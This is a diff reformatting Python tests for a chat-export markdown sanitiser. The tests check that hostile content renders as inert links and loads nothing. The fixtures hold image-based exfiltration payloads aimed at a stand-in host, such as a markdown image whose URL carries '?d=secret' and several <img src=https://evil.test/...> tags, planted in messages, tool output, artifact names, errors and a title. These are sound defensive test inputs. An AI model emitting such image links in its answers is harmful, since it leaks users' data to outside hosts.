@@ -73,7 +73,9 @@ def test_a_hostile_answer_loads_nothing_in_a_viewer(answer):
 
 
 def test_an_image_becomes_a_link_with_its_alt_text_and_what_the_page_shows_stays():
-    html = viewer(safe_markdown("Here: ![chart](https://evil.test/x?d=secret) and `List<int>`, a < b, <https://example.org>"))
+    html = viewer(
+        safe_markdown("Here: ![chart](https://evil.test/x?d=secret) and `List<int>`, a < b, <https://example.org>")
+    )
     assert '!<a href="https://evil.test/x?d=secret">chart</a>' in html
     assert "<code>List&lt;int&gt;</code>" in html and "a &lt; b" in html
     assert '<a href="https://example.org">https://example.org</a>' in html
@@ -100,10 +102,22 @@ def test_a_whole_export_with_hostile_parts_loads_nothing():
     messages = [
         _message(0, "user", "<img src=https://evil.test/user>"),
         _message(1, "assistant", "Let me look.\n\n```\nthe answer leaves this fence open"),
-        _message(2, "tool", "````\n![x](https://evil.test/res)\n<img src=https://evil.test/res2>", tool="t_`x`",
-                 ok=True, arguments=arguments, artifacts=[{"name": "![n](https://evil.test/name)"}]),  # fmt: skip
-        _message(3, "assistant", "Done ![y](https://evil.test/done)", finish_reason="error",
-                 error={"message": "<img src=https://evil.test/err>"}),  # fmt: skip
+        _message(
+            2,
+            "tool",
+            "````\n![x](https://evil.test/res)\n<img src=https://evil.test/res2>",
+            tool="t_`x`",
+            ok=True,
+            arguments=arguments,
+            artifacts=[{"name": "![n](https://evil.test/name)"}],
+        ),
+        _message(
+            3,
+            "assistant",
+            "Done ![y](https://evil.test/done)",
+            finish_reason="error",
+            error={"message": "<img src=https://evil.test/err>"},
+        ),
     ]
     conversation = Conversation("c1", "a@b", "<img src=https://evil.test/title>", "m", None, (), "m3", 4, now, now)
     markdown = export_markdown(conversation, messages)
